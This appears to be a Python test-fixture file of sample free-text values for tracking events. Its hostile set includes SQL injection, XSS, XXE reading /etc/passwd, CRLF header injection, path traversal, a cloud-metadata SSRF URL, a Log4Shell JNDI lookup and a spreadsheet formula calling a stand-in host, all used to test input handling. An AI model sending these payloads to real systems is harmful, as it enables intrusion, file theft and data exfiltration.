"""The free texts of the sample events: ordinary ones, and hostile ones that must arrive as they are or not at all."""

LONGEST = 2048
"""Bytes that a free text may have (contract, conventions)."""

ORDINARY = [
    "summer", "newsletter-46", "banner_728x90", "fb_cold_cz", "partner/11", "A1B2C3", "retargeting", "blog-post-7", "push", "homepage",
]

UNICODE = [
    "Příliš žluťoučký kůň úpěl ďábelské ódy",
    "Zażółć gęślą jaźń",
    "مرحبا بالعالم",
    "שלום עולם",
    "日本語の広告",
    "🛒🎉 1+1 👨‍👩‍👧‍👦",
    "invoice \u202egpj.exe\u202c end",
    "\u200fright-to-left mark\u200f",
    "e\u0301 a\u0328\u0301 combining Z\u0351\u036b\u0343",
    "\ufeffbyte order mark, \u2028line and \u2029paragraph separator",
]

HOSTILE = [
    "double \" and single ' quotes",
    "first line\r\nX-Injected: yes\r\n\r\nbody",
    "a&b=c#d?e%f+g;h/i\\j",
    "%00%0d%0aSet-Cookie: x=1",
    "{pcid}",
    "{{pcid}} and {secret.token|raw}",
    "{unknown",
    "Robert'); DROP TABLE conversions;--",
    "<script>alert(\"x\")</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "]]><injected/>",
    "\"},\"x\":\"",
    "--boundary\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1",
    "../../etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://receiver.example/x}",
    "=HYPERLINK(\"http://receiver.example\")",
    " leading and trailing \t",
    "null",
    "0",
    "",
]

NUL = "before\u0000after"
"""Legal JSON, not legal XML: no rule that writes XML meets it."""

LONG = [
    "x" * LONGEST,
    "ž" * (LONGEST // 2),
    "🧪" * (LONGEST // 4),
    ("\"&<%{" * LONGEST)[:LONGEST],
]
"""Texts of exactly the longest length, in one, two and four bytes a character, and one that grows under every encoding."""

USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0 Safari/537.36",
    "curl/8.9.1",
]

for text in UNICODE + HOSTILE + LONG + [NUL]:
    assert len(text.encode()) <= LONGEST, text


def address(number):
    """A visitor's address out of the ranges that are reserved for documentation (RFC 5737, RFC 3849)."""
    last = number % 254 + 1
    return [f"192.0.2.{last}", f"198.51.100.{last}", f"203.0.113.{last}", f"2001:db8::{last:x}"][number % 4]
